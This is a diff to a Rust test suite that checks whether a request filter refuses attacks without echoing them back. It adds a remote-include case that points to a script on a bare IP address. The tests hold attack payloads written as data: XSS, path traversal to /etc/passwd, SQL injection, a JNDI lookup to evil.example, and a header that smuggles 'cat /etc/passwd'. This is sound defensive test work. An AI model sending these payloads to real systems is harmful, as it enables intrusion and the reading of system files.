@@ -42,6 +42,7 @@ fn attacks() -> Vec<Case> {
         ("xss in query, double-encoded", "GET", "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E".into(), vec![], String::new()),
         ("traversal in query", "GET", "/download?file=..%2f..%2f..%2fetc%2fpasswd".into(), vec![], String::new()),
         ("traversal in path", "GET", "/static/....//....//....//etc/passwd".into(), vec![], String::new()),
+        ("remote include of a script on a bare address", "GET", "/thumb?src=http://66.240.183.75/crash.php".into(), vec![], String::new()),
         ("sqli in a path segment", "GET", "/users/1%20union%20select%20password%20from%20users--".into(), vec![], String::new()),
         ("jndi in user-agent", "GET", "/".into(), vec![("user-agent", "${jndi:ldap://evil.example/a}")], String::new()),
         ("cmdi in a header", "GET", "/".into(), vec![("x-forwarded-host", "a.example; cat /etc/passwd")], String::new()),
@@ -69,7 +70,16 @@ async fn attacks_in_every_part_of_a_request_are_refused_without_echo() {
         assert_eq!(doc["reason"], "attack-detected", "{what}");
         let text = String::from_utf8_lossy(&b).to_lowercase();
         for echo in [
-            "passwd", "<script", "ldap:", "union", "169.254", "$ne", "doctype", "onerror", "1=1",
+            "passwd",
+            "<script",
+            "ldap:",
+            "union",
+            "169.254",
+            "$ne",
+            "doctype",
+            "onerror",
+            "1=1",
+            "crash.php",
         ] {
             assert!(
                 !text.contains(echo),
@@ -111,6 +121,7 @@ async fn harmless_look_alikes_pass() {
     let client = h1_client();
     let harmless: Vec<(&str, &str, Headers, String)> = vec![
         ("GET", "/search?q=O%27Brien&sort=name", vec![], String::new()),
+        ("GET", "/thumb?src=http://203.0.113.7/images/logo.png", vec![], String::new()),
         ("GET", "/search?q=select%20the%20best%20union%20plan", vec![], String::new()),
         ("GET", "/docs/getting-started/index.html", vec![("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36")], String::new()),
         ("POST", "/comments", vec![JSON], r#"{"comment":"I'd drop the table from the living room -- too big. Select a smaller one?","rating":4}"#.into()),
